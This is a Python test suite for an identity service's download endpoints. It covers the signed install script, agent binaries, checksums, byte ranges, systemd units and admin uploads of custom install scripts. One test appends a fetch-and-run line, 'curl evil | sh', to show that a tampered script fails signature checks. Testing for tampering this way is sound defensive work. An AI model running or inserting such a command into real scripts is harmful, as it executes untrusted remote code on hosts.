"""What hosts fetch, and the install script of one's own, as they stand on the wire (spec/http-api sections 9.1, 10)."""

from __future__ import annotations

import os
import re
from collections.abc import Mapping
from hashlib import sha256
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from twisted.internet.defer import Deferred
from twisted.internet.testing import StringTransport
from twisted.trial.unittest import SynchronousTestCase

from identree import dist
from identree.agent import units
from identree.app.distribution import (
    AGENT_NAMES,
    CUSTOM_SCRIPT,
    CUSTOM_SIGNATURE,
    SCRIPT_BYTES,
    AgentFile,
    InstallTerms,
    Scripts,
    uninstall_script,
)
from identree.app.signing import InstallKeys
from identree.core.errors import StorageUnavailable
from identree.web.downloads import (
    DOWNLOAD_SECONDS,
    PIECE_BYTES,
    UPLOAD_BODY_BYTES,
    UPLOAD_PATH,
    DownloadDesk,
    DownloadRoutes,
    UploadRoutes,
    byte_range,
)
from identree.web.fleet import AdminCalls, CallAnswers
from identree.web.hosts import HostRoutes
from identree.web.reading import Addresses, Credentials
from identree.web.root import build_root
from identree.web.site import Site
from tests.app.provisioning import inline, registry
from tests.app.world import SECRET
from tests.web.front import Connection, Front, Response, encoded

PRIVATE = Ed25519PrivateKey.from_private_bytes(bytes(range(32)))
SIGNING = InstallKeys(PRIVATE.public_key(), PRIVATE)
BUILTIN = b"#!/bin/bash\n"
# of it (spec/notifications-and-policy section 9)
SIGNATURE = "7rAuHbjhGrdmBMhL9nRCdeTYMegpz7yb4N/I3VLx8QSP/pSHNoDZF7y1SZG1S9oh+92kQn3Z4mlQR4FQu9ySAA"
CUSTOM = b"#!/bin/bash\necho mine\n"
AGENT = b"#!/usr/bin/python3 -ISB\n" + bytes(range(256)) * 4
DIGEST = sha256(AGENT).hexdigest()
NAME = "identree-linux-amd64"
MODIFIED = 1_767_225_600  # 2026-01-01
BOUNDARY = "xyz"
TEXT = "text/plain; charset=utf-8"
TERMS = InstallTerms(
    server_url="https://identree.example/", install_url="https://get.example/", base_dn="dc=example,dc=com"
)


class DownloadTestCase(SynchronousTestCase):
    def setUp(self) -> None:
        place = TemporaryDirectory()
        self.addCleanup(place.cleanup)
        self.place = Path(place.name)
        self.put_agent(AGENT)
        self.front = Front()
        self.addCleanup(self.front.close)
        self.world = self.front.world
        self.make(SIGNING)

    def put_agent(self, content: bytes) -> None:
        path = self.place / "identree.pyz"
        path.with_suffix(".new").write_bytes(content)
        os.utime(path.with_suffix(".new"), (MODIFIED, MODIFIED))
        path.with_suffix(".new").rename(path)

    def make(self, keys: InstallKeys | None, terms: InstallTerms = TERMS, version: str = "1.2.3") -> None:
        world, addresses, credentials = self.world, Addresses(lambda: ()), Credentials()
        self.scripts = Scripts(
            builtin=BUILTIN,
            keys=keys,
            directory=str(self.place),
            store=world.store,
            now=world.now,
            journal=world.journal,
            in_thread=inline,
        )
        desk = DownloadDesk(
            scripts=self.scripts,
            agent=AgentFile(str(self.place / "identree.pyz"), inline),
            terms=terms,
            version=version,
            units={name: units.unit(name) for name in units.NAMES},
            uninstall=dist.read(dist.UNINSTALL).decode(),
            registry=lambda: world.registry,
        )
        downloads = DownloadRoutes(
            desk=desk, hosts=world.hosts, addresses=addresses, credentials=credentials, clock=world.clock
        )
        uploads = UploadRoutes(
            scripts=self.scripts,
            calls=AdminCalls(people=world.people, sessions=self.front.sessions),
            answers=CallAnswers(),
            addresses=addresses,
            in_thread=inline,
        )
        root = build_root(
            hosts=HostRoutes(challenges=world.challenges, hosts=world.hosts, addresses=addresses, clock=world.clock),
            streams=self.front.streams,
            routes=[downloads, uploads],
        )
        self.site = Site(
            root,
            reactor=world.clock,
            external_url="http://identree.example",
            token=world.token,
            body_limits={UPLOAD_PATH.encode(): UPLOAD_BODY_BYTES},
        )

    def connect(self, method: str, path: str, headers: Mapping[str, str], body: bytes = b"") -> Connection:
        connection = Connection(self.site)
        self.addCleanup(connection.hang_up)
        connection.send(encoded(method, path, headers, body))
        return connection

    def ask(self, path: str, method: str = "GET", body: bytes = b"", **headers: str) -> Response:
        sent = {name.replace("_", "-"): value for name, value in headers.items()}
        connection = self.connect(method, path, sent, body)
        response = connection.response(head=method == "HEAD")
        assert response is not None, connection.raw
        return response

    def told(self, response: Response, code: int, text: str) -> None:
        self.assertEqual((response.code, response.text), (code, text + "\n"))
        self.assertEqual(response.header("Content-Type"), TEXT)


class ScriptTests(DownloadTestCase):
    def test_script(self) -> None:
        """The built-in script, byte for byte, and its signature without line end."""
        response = self.ask("/install.sh")
        self.assertEqual((response.code, response.body), (200, BUILTIN))
        self.assertEqual(response.header("Content-Type"), "text/x-shellscript; charset=utf-8")
        self.assertEqual(response.header("Content-Disposition"), "inline; filename=install.sh")
        self.assertEqual(response.header("Cache-Control"), "no-store")
        signature = self.ask("/install.sh.sig")
        self.assertEqual((signature.code, signature.text), (200, SIGNATURE))
        self.assertEqual(signature.header("Content-Type"), TEXT)

    def test_key(self) -> None:
        """The public key in the own form."""
        response = self.ask("/install.pub")
        self.assertEqual((response.code, response.body), (200, SIGNING.public_pem))
        self.assertEqual(response.header("Content-Type"), "application/x-pem-file")

    def test_no_key(self) -> None:
        """Without a key there is the script, and nothing that vouches for it."""
        self.make(None)
        self.assertEqual(self.ask("/install.sh").code, 200)
        for path in ("/install.sh.sig", "/install.pub", f"/download/{NAME}.sha256.sig", "/download/manifest.json.sig"):
            self.told(self.ask(path), 503, "signing not configured")

    def test_public_key_only(self) -> None:
        """With the public key alone the key is served, and the built-in script is not signed."""
        self.make(InstallKeys(PRIVATE.public_key()))
        self.assertEqual(self.ask("/install.pub").body, SIGNING.public_pem)
        self.told(self.ask("/install.sh.sig"), 503, "signing not configured")

    def test_methods(self) -> None:
        """All is GET; HEAD and the others are refused in plain text."""
        paths = ["/install.sh", "/install.sh.sig", "/install.pub", "/install-config.json", "/download/version"]
        paths += [f"/download/{NAME}", f"/download/{NAME}.sha256", "/download/systemd/identree-rotate.timer"]
        for path in paths:
            for method in ("POST", "HEAD", "DELETE"):
                response = self.ask(path, method)
                self.assertEqual(response.code, 405, (method, path))
                self.assertEqual(response.header("Content-Type"), TEXT)
                if method != "HEAD":
                    self.assertEqual(response.text, "method not allowed\n")

    def test_exact_paths(self) -> None:
        """No path goes on after its end."""
        for path in ("/install.sh/", "/download/version/", "/download/", "/download/identree", f"/download/{NAME}/x"):
            self.told(self.ask(path), 404, "404 page not found")

    def test_uninstall(self) -> None:
        """Only the value false turns an option off."""
        template = dist.read(dist.UNINSTALL).decode()
        for query, pam, files in (
            ("", True, True),
            ("?pam=true&files=0", True, True),
            ("?pam=false", False, True),
            ("?files=false", True, False),
            ("?pam=false&files=false", False, False),
        ):
            response = self.ask("/api/deploy/uninstall-script" + query)
            self.assertEqual(response.code, 200)
            self.assertEqual(response.header("Content-Type"), "text/x-shellscript; charset=utf-8")
            self.assertEqual(response.text, uninstall_script(template, pam=pam, files=files))
            self.assertIn(f"\nUNCONFIGURE_PAM={str(pam).lower()}\nREMOVE_FILES={str(files).lower()}\n", response.text)

    def test_uninstall_template(self) -> None:
        """A template in which the options cannot be set is refused at the start."""
        self.assertRaises(ValueError, uninstall_script, "#!/bin/bash\nREMOVE_FILES=true\n")


class ConfigTests(DownloadTestCase):
    def test_config(self) -> None:
        """With the global secret: addresses without slash at the end, and the base DN."""
        response = self.ask("/install-config.json", X_Shared_Secret=SECRET)
        self.assertEqual(response.code, 200)
        self.assertEqual(response.header("Content-Type"), "application/json; charset=utf-8")
        self.assertEqual(
            list(response.json.items()),
            [
                ("server_url", "https://identree.example"),
                ("install_url", "https://get.example"),
                ("ldap_base_dn", "dc=example,dc=com"),
            ],
        )

    def test_optional(self) -> None:
        """What is not set, or says the same, is left out."""
        same = "https://identree.example"
        for terms in (InstallTerms(server_url=same), InstallTerms(server_url=same, install_url=same + "/")):
            self.make(SIGNING, terms)
            response = self.ask("/install-config.json", X_Shared_Secret=SECRET)
            self.assertEqual(response.json, {"server_url": same})

    def test_refused(self) -> None:
        """Without the secret or with another one, nothing is told."""
        self.told(self.ask("/install-config.json"), 401, "unauthorized")
        response = self.ask("/install-config.json", X_Shared_Secret="x" * 32)
        self.told(response, 401, "unauthorized")
        self.assertEqual(response.header("WWW-Authenticate"), "Identree")

    def test_own_secret(self) -> None:
        """A host's own secret opens it only for the host that it names."""
        self.world.registry = registry("web1", "web2")
        secret = "f" * 64  # of the first of them
        self.told(self.ask("/install-config.json", X_Shared_Secret=secret), 401, "unauthorized")
        self.told(self.ask("/install-config.json", X_Shared_Secret=secret, X_Hostname="web2"), 401, "unauthorized")
        response = self.ask("/install-config.json", X_Shared_Secret=secret, X_Hostname="WEB1")
        self.assertEqual(response.json["server_url"], "https://identree.example")

    def test_throttled(self) -> None:
        """Guessing is held off; the right secret is not."""
        for _ in range(10):
            self.ask("/install-config.json", X_Shared_Secret="x" * 32)
        response = self.ask("/install-config.json", X_Shared_Secret="x" * 32)
        self.assertEqual(response.code, 429)
        self.assertIsNotNone(response.header("Retry-After"))
        self.assertEqual(self.ask("/install-config.json", X_Shared_Secret=SECRET).code, 200)


class AgentTests(DownloadTestCase):
    def test_version(self) -> None:
        """The version alone, without line end; ``dev`` where there is none."""
        response = self.ask("/download/version")
        self.assertEqual((response.text, response.header("Content-Type")), ("1.2.3", TEXT))
        self.make(SIGNING, version="")
        self.assertEqual(self.ask("/download/version").text, "dev")

    def test_agent(self) -> None:
        """The same file under every name that scripts fetch."""
        for name in AGENT_NAMES:
            response = self.ask(f"/download/{name}")
            self.assertEqual((response.code, response.body), (200, AGENT))
            self.assertEqual(response.header("Content-Type"), "application/octet-stream")
            self.assertEqual(response.header("Content-Disposition"), f'attachment; filename="{name}"')
            self.assertEqual(response.header("Content-Length"), str(len(AGENT)))
            self.assertEqual(response.header("Cache-Control"), "no-store")
            self.assertEqual(response.header("Accept-Ranges"), "bytes")

    def test_checksum(self) -> None:
        """The line names the file that was asked for, and its signature is over exactly this line."""
        for name in AGENT_NAMES:
            response = self.ask(f"/download/{name}.sha256")
            self.assertEqual((response.text, response.header("Content-Type")), (f"{DIGEST}  {name}\n", TEXT))
            signature = self.ask(f"/download/{name}.sha256.sig").text
            self.assertTrue(SIGNING.verify(response.body, signature))

    def test_replaced(self) -> None:
        """A new agent is served as soon as it is there, with its checksum."""
        self.ask(f"/download/{NAME}")
        self.put_agent(AGENT + b"more")
        self.assertEqual(self.ask(f"/download/{NAME}").body, AGENT + b"more")
        digest = sha256(AGENT + b"more").hexdigest()
        self.assertTrue(self.ask(f"/download/{NAME}.sha256").text.startswith(digest))

    def test_missing(self) -> None:
        """Where there is no agent, it is named; it may come later."""
        (self.place / "identree.pyz").unlink()
        for end in ("", ".sha256", ".sha256.sig"):
            self.told(self.ask(f"/download/{NAME}{end}"), 404, f"{NAME} is not available on this server")
        self.put_agent(AGENT)
        self.assertEqual(self.ask(f"/download/{NAME}").code, 200)

    def test_no_file(self) -> None:
        """A directory or a pipe in its place is no agent, and holds nobody."""
        (self.place / "identree.pyz").unlink()
        os.mkfifo(self.place / "identree.pyz")
        self.assertEqual(self.ask(f"/download/{NAME}").code, 404)

    def test_manifest(self) -> None:
        """Everything that there is to fetch, and the signature of that."""
        response = self.ask("/download/manifest.json")
        self.assertEqual(response.json["version"], "1.2.3")
        listed = {entry["path"]: entry for entry in response.json["files"]}
        self.assertEqual(len(listed), len(AGENT_NAMES) + len(units.NAMES))
        for path, entry in listed.items():
            fetched = self.ask(path).body
            self.assertEqual((entry["size"], entry["sha256"]), (len(fetched), sha256(fetched).hexdigest()))
        self.assertTrue(SIGNING.verify(response.body, self.ask("/download/manifest.json.sig").text))

    def test_units(self) -> None:
        """The units as the agent writes them; no others."""
        for name in units.NAMES:
            response = self.ask(f"/download/systemd/{name}")
            self.assertEqual((response.text, response.header("Content-Type")), (units.unit(name), TEXT))
        for name in ("", "identree.service", "..%2fversion", "x"):
            self.told(self.ask(f"/download/systemd/{name}"), 404, "404 page not found")

    def test_unchanged(self) -> None:
        """Who has it already is told so, by tag or by date; the tag counts more."""
        first = self.ask(f"/download/{NAME}")
        tag, date = first.header("ETag"), first.header("Last-Modified")
        assert tag is not None and date is not None
        self.assertEqual((tag, date), (f'"{DIGEST}"', "Thu, 01 Jan 2026 00:00:00 GMT"))
        self.assertEqual(self.ask(f"/download/{NAME}", If_Modified_Since=date).code, 304)
        self.assertEqual(self.ask(f"/download/{NAME}", If_None_Match=tag).code, 304)
        self.assertEqual(self.ask(f"/download/{NAME}", If_None_Match='"x"', If_Modified_Since=date).code, 200)
        before = "Wed, 31 Dec 2025 23:59:59 GMT"
        self.assertEqual(self.ask(f"/download/{NAME}", If_Modified_Since=before).code, 200)

    def test_ranges(self) -> None:
        """One range of bytes is served as such."""
        size = len(AGENT)
        for asked, start, end in (
            ("bytes=0-0", 0, 1),
            ("bytes=10-19", 10, 20),
            ("bytes=1000-", 1000, size),
            ("bytes=-5", size - 5, size),
            ("bytes=5-999999", 5, size),
            ("bytes=-999999", 0, size),
        ):
            response = self.ask(f"/download/{NAME}", Range=asked)
            self.assertEqual((response.code, response.body), (206, AGENT[start:end]), asked)
            self.assertEqual(response.header("Content-Range"), f"bytes {start}-{end - 1}/{size}")

    def test_no_range(self) -> None:
        """Beyond the end there is nothing; what is not understood is answered with everything."""
        response = self.ask(f"/download/{NAME}", Range="bytes=99999-")
        self.assertEqual(response.code, 416)
        self.assertEqual(response.header("Content-Range"), f"bytes */{len(AGENT)}")
        self.assertEqual(self.ask(f"/download/{NAME}", Range="bytes=-0").code, 416)
        for asked in ("bytes=5-2", "bytes=0-1,3-4", "lines=1-2", "bytes", "bytes=-", "bytes=x-", "bytes=" + "9" * 100):
            response = self.ask(f"/download/{NAME}", Range=asked)
            self.assertEqual((response.code, response.body), (200, AGENT), asked)

    def test_range_of_another(self) -> None:
        """Who has the beginning of another file gets all of this one."""
        for condition, code in ((f'"{DIGEST}"', 206), ('"x"', 200), ("Thu, 01 Jan 2026 00:00:00 GMT", 206), ("x", 200)):
            response = self.ask(f"/download/{NAME}", Range="bytes=0-9", If_Range=condition)
            self.assertEqual(response.code, code, condition)

    def test_empty_file(self) -> None:
        """Of nothing there is no range."""
        self.assertEqual(byte_range(b"bytes=0-", 0), (0, 0))
        self.assertEqual(byte_range(b"bytes=-3", 0), (0, 0))

    def test_large(self) -> None:
        """A large agent goes out as fast as the client takes it, a piece at a time."""
        content = os.urandom(PIECE_BYTES * 5 + 17)
        self.put_agent(content)
        connection, transport = self.slow()
        self.addCleanup(connection.hang_up)
        connection.send(encoded("GET", f"/download/{NAME}"))
        sizes = [len(connection.raw)]
        while connection.response() is None and len(sizes) < 20:
            assert transport.producer is not None
            transport.producer.resumeProducing()
            sizes.append(len(connection.raw) - sum(sizes))
        self.assertLess(max(sizes), PIECE_BYTES + 2000)
        self.assertTrue(connection.raw.endswith(content))
        self.assertGreater(len(sizes), 4)
        self.assertEqual(self.aborts(), [])

    def test_large_range(self) -> None:
        """A large range as well, whole."""
        content = os.urandom(PIECE_BYTES * 3)
        self.put_agent(content)
        response = self.ask(f"/download/{NAME}", Range="bytes=7-")
        self.assertEqual((response.code, response.body), (206, content[7:]))

    def test_too_slow(self) -> None:
        """Who does not read is hung up on, and nothing is left of it."""
        self.put_agent(bytes(PIECE_BYTES * 5))
        connection, transport = self.slow()
        connection.send(encoded("GET", f"/download/{NAME}"))
        self.world.clock.advance(DOWNLOAD_SECONDS - 1)
        self.assertFalse(transport.aborted)
        self.world.clock.advance(2)
        self.assertTrue(transport.aborted)
        connection.hang_up()
        self.assertEqual(self.flushLoggedErrors(), [])

    def test_hang_up(self) -> None:
        """Who hangs up in the middle leaves no timer behind."""
        self.put_agent(bytes(PIECE_BYTES * 5))
        connection, _ = self.slow()
        connection.send(encoded("GET", f"/download/{NAME}"))
        self.assertEqual(len(self.aborts()), 1)
        connection.hang_up()
        self.assertEqual(self.flushLoggedErrors(), [])
        self.assertEqual(self.aborts(), [])

    def slow(self) -> tuple[Connection, Slow]:
        connection = Connection(self.site)
        channel: Any = connection.transport.producer
        transport = connection.transport = channel.transport = Slow(connection)
        transport.registerProducer(channel, True)
        return connection, transport

    def aborts(self) -> list[Any]:
        """The timers that would hang up on somebody."""
        return [call for call in self.world.clock.getDelayedCalls() if "abort" in repr(call.func)]


class Slow(StringTransport):
    """A connection that is full after every piece."""

    def __init__(self, connection: Connection) -> None:
        super().__init__(peerAddress=connection.transport.getPeer())
        self.aborted = False
        self._written = 0

    def write(self, data: bytes) -> None:
        super().write(data)
        self._written += len(data)
        if self._written >= PIECE_BYTES and self.producer is not None and self.streaming:
            self._written = 0
            self.producer.pauseProducing()

    def abortConnection(self) -> None:
        self.aborted = True
        super().abortConnection()


class UploadTestCase(DownloadTestCase):
    def setUp(self) -> None:
        super().setUp()
        self.front.sign_in("carol", "admin")

    def call(self, method: str, body: bytes = b"", kind: str = "", csrf: bool = True) -> Response:
        headers = {"Cookie": f"pam_session={self.front.cookies['pam_session']}"}
        if csrf:
            made = self.front.csrf("carol")
            headers |= {"X-CSRF-Token": made["csrf_token"], "X-CSRF-Ts": made["csrf_ts"]}
        if kind:
            headers["Content-Type"] = kind
        response = self.connect(method, UPLOAD_PATH, headers, body).response()
        assert response is not None
        return response

    def upload(self, script: bytes = CUSTOM, signature: str | None = None) -> Response:
        signed = SIGNING.sign(script) if signature is None else signature
        return self.call("POST", form(script, signed), f"multipart/form-data; boundary={BOUNDARY}")

    def said(self, response: Response, code: int, error: str) -> None:
        self.assertEqual((response.code, response.json), (code, {"error": error}))

    def files(self) -> list[str]:
        return sorted(path.name for path in self.place.iterdir() if path.name != "identree.pyz")


def form(script: bytes | None, signature: str | None) -> bytes:
    parts = b""
    if script is not None:
        parts += f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="script"; filename="i.sh"\r\n'.encode()
        parts += b"Content-Type: text/x-sh\r\n\r\n" + script + b"\r\n"
    if signature is not None:
        parts += f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="signature"\r\n\r\n{signature}\r\n'.encode()
    return parts + f"--{BOUNDARY}--\r\n".encode()


class UploadTests(UploadTestCase):
    def test_upload(self) -> None:
        """The script is served from now on, with its signature, and the files are the owner's alone."""
        response = self.upload()
        self.assertEqual((response.code, response.json), (200, {"status": "ok"}))
        self.assertEqual(self.ask("/install.sh").body, CUSTOM)
        self.assertEqual(self.ask("/install.sh.sig").text, SIGNING.sign(CUSTOM))
        self.assertEqual(self.files(), [CUSTOM_SCRIPT, CUSTOM_SIGNATURE])
        modes = [(self.place / name).stat().st_mode & 0o777 for name in self.files()]
        self.assertEqual(modes, [0o600, 0o600])

    def test_stored(self) -> None:
        """Administrators read what is stored."""
        self.said(self.call("GET"), 404, "no custom script configured")
        self.upload(signature=SIGNING.sign(CUSTOM) + "==\n")
        response = self.call("GET")
        self.assertEqual(response.json["script"].encode(), CUSTOM)
        self.assertEqual(response.json["signature"], SIGNING.sign(CUSTOM))
        self.assertIs(response.json["valid"], True)

    def test_delete(self) -> None:
        """Removing reverts to the built-in script, also when there is nothing to remove."""
        self.upload()
        for _ in range(2):
            response = self.call("DELETE")
            self.assertEqual((response.code, response.json), (200, {"status": "ok"}))
            self.assertEqual(self.ask("/install.sh").body, BUILTIN)
        self.assertEqual(self.files(), [])

    def test_audited(self) -> None:
        """Each change is one record, and what changes nothing is none."""
        self.upload()
        self.upload(signature="x")
        self.call("DELETE")
        self.call("DELETE")
        self.assertEqual(self.world.store.events, ["config_changed", "config_changed"])
        line = next(attributes for message, attributes in self.world.log if message == "INSTALL_SCRIPT replaced")
        self.assertEqual((line["user"], line["sha256"]), ("carol", sha256(CUSTOM).hexdigest()))

    def test_not_recorded(self) -> None:
        """What cannot be recorded does not happen."""

        async def fail(events: object) -> None:
            raise StorageUnavailable("full")

        self.patch(self.world.store, "record", fail)
        self.assertEqual(self.upload().code, 503)
        self.assertEqual(self.files(), [])
        self.assertEqual(self.ask("/install.sh").body, BUILTIN)

    def test_not_written(self) -> None:
        """A directory that cannot be written to is our trouble, which the log tells; nothing is left of it."""
        os.rename(self.place, self.place.with_name(self.place.name + "-gone"))
        self.addCleanup(os.rename, self.place.with_name(self.place.name + "-gone"), self.place)
        self.said(self.upload(), 500, "internal error")
        self.assertEqual(self.world.store.events, [])

    def test_hang_up(self) -> None:
        """Who hangs up in the middle has either both, the record and the script, or neither."""
        waiting: list[Deferred[None]] = []
        record = self.world.store.record

        async def later(events: Any) -> None:
            waiting.append(Deferred())
            await waiting[-1]
            await record(events)

        self.patch(self.world.store, "record", later)
        made = self.front.csrf("carol")
        headers = {
            "Cookie": f"pam_session={self.front.cookies['pam_session']}",
            "X-CSRF-Token": made["csrf_token"],
            "X-CSRF-Ts": made["csrf_ts"],
            "Content-Type": f"multipart/form-data; boundary={BOUNDARY}",
        }
        connection = self.connect("POST", UPLOAD_PATH, headers, form(CUSTOM, SIGNING.sign(CUSTOM)))
        connection.hang_up()
        self.assertEqual(self.ask("/install.sh").body, BUILTIN)
        waiting[0].callback(None)
        self.assertEqual(self.world.store.events, ["config_changed"])
        self.assertEqual(self.ask("/install.sh").body, CUSTOM)

    def test_leftovers(self) -> None:
        """What an upload left behind that was cut off goes with the next one; a young one may be another replica's."""
        for name, age in ((".custom-install-old", 4000), (".custom-install-young", 60)):
            (self.place / name).touch()
            at = self.world.now().timestamp() - age
            os.utime(self.place / name, (at, at))
        self.upload()
        self.assertEqual(self.files(), [".custom-install-young", CUSTOM_SCRIPT, CUSTOM_SIGNATURE])

    def test_refused(self) -> None:
        """Each mistake has its own words, and none changes anything."""
        kind = f"multipart/form-data; boundary={BOUNDARY}"
        good = SIGNING.sign(CUSTOM)
        unnamed = form(CUSTOM, good).replace(b'; filename="i.sh"', b"")
        for body, content_type, error in (
            (form(CUSTOM, good), "application/json", "invalid multipart form"),
            (form(CUSTOM, good), "multipart/form-data", "invalid multipart form"),
            (form(CUSTOM, good), f"multipart/form-data; boundary={'x' * 71}", "invalid multipart form"),
            (b"nonsense", kind, "invalid multipart form"),
            (form(CUSTOM, good)[:-40], kind, "invalid multipart form"),
            (form(CUSTOM, "A" * 5000), kind, "invalid signature"),
            (form(CUSTOM, "A" * 300_000), kind, "invalid multipart form"),
            (form(None, good), kind, "missing script file"),
            (unnamed, kind, "missing script file"),
            (form(CUSTOM, None), kind, "missing signature"),
            (form(CUSTOM, ""), kind, "missing signature"),
            (form(CUSTOM, SIGNATURE), kind, "invalid signature"),
            (form(CUSTOM + b"x", good), kind, "invalid signature"),
        ):
            self.said(self.call("POST", body, content_type), 400, error)
            self.world.clock.advance(60)
        self.assertEqual((self.files(), self.world.store.events), ([], []))

    def test_largest(self) -> None:
        """A script of just the limit is taken, one byte more is not, and much more is not even read."""
        self.assertEqual(self.upload(b"x" * SCRIPT_BYTES).code, 200)
        self.said(self.upload(b"x" * (SCRIPT_BYTES + 1)), 400, "script exceeds maximum size")
        self.said(self.upload(b"x" * (SCRIPT_BYTES * 2)), 400, "script exceeds maximum size")
        self.assertEqual(len(self.ask("/install.sh").body), SCRIPT_BYTES)

    def test_without_key(self) -> None:
        """Without a key nothing can be verified, and so nothing stored."""
        self.make(None)
        self.said(self.upload(), 503, "signing not configured")

    def test_public_key_only(self) -> None:
        """With the public key alone what was signed elsewhere is stored and served with that signature."""
        self.make(InstallKeys(PRIVATE.public_key()))
        self.assertEqual(self.upload().code, 200)
        self.assertEqual(self.ask("/install.sh.sig").text, SIGNING.sign(CUSTOM))

    def test_who(self) -> None:
        """Only administrators with the token of their page."""
        self.said(self.call("POST", csrf=False), 403, "missing CSRF headers")
        self.front.sign_in("alice")
        for method in ("GET", "POST", "DELETE"):
            self.said(self.call(method), 401, "unauthorized")

    def test_methods(self) -> None:
        """A wrong method is told in plain text."""
        self.told(self.call("PUT"), 405, "method not allowed")


class StoredScriptTests(UploadTestCase):
    """A custom script is believed as long as its signature is good, and no longer."""

    def put(self, script: bytes = CUSTOM, signature: str = "") -> None:
        (self.place / CUSTOM_SCRIPT).write_bytes(script)
        (self.place / CUSTOM_SIGNATURE).write_text(signature or SIGNING.sign(CUSTOM) + "\n")

    def test_put_there(self) -> None:
        """A pair that an operator put there is served."""
        self.put()
        self.assertEqual(self.ask("/install.sh").body, CUSTOM)

    def test_tampered(self) -> None:
        """One that was changed is not; and it is served again when it is put right."""
        self.put()
        self.ask("/install.sh")
        self.put(CUSTOM + b"curl evil | sh\n")
        self.assertEqual(self.ask("/install.sh").body, BUILTIN)
        self.assertEqual(self.ask("/install.sh.sig").text, SIGNATURE)
        self.assertIs(self.call("GET").json["valid"], False)
        self.put()
        self.assertEqual(self.ask("/install.sh").body, CUSTOM)

    def test_another_key(self) -> None:
        """One that another key signed is not served."""
        other = Ed25519PrivateKey.from_private_bytes(bytes(32))
        self.put(signature=InstallKeys(other.public_key(), other).sign(CUSTOM))
        self.assertEqual(self.ask("/install.sh").body, BUILTIN)

    def test_half(self) -> None:
        """Neither half is anything without the other."""
        self.put()
        (self.place / CUSTOM_SIGNATURE).unlink()
        self.assertEqual(self.ask("/install.sh").body, BUILTIN)
        self.put()
        (self.place / CUSTOM_SCRIPT).unlink()
        self.assertEqual(self.ask("/install.sh").body, BUILTIN)
        self.call("DELETE")
        self.assertEqual(self.files(), [])

    def test_too_large(self) -> None:
        """Nor is one beyond the limit, or a pipe, which holds nobody."""
        self.put(b"x" * (SCRIPT_BYTES + 1))
        self.assertEqual(self.ask("/install.sh").body, BUILTIN)
        (self.place / CUSTOM_SCRIPT).unlink()
        os.mkfifo(self.place / CUSTOM_SCRIPT)
        self.assertEqual(self.ask("/install.sh").body, BUILTIN)

    def test_no_key(self) -> None:
        """Without a key no custom script is believed."""
        self.put()
        self.make(None)
        self.assertEqual(self.ask("/install.sh").body, BUILTIN)


class PackagedTests(SynchronousTestCase):
    def test_scripts(self) -> None:
        """The scripts are in the package, are ASCII, and hold their commands in a function that the last line calls."""
        for name in (dist.INSTALL, dist.UNINSTALL):
            text = dist.read(name).decode("ascii")
            self.assertTrue(text.startswith("#!/bin/bash\n"), name)
            self.assertTrue(text.endswith('\nmain "$@"\n'), name)

    def test_nothing_of_a_deployment(self) -> None:
        """No address is in them but the one of the examples."""
        text = dist.read(dist.INSTALL).decode() + dist.read(dist.UNINSTALL).decode()
        found = set(re.findall(r"https?://[a-z0-9.-]+", text)) - {"https://", "http://"}
        self.assertEqual(found, {"https://identree.example.com"})
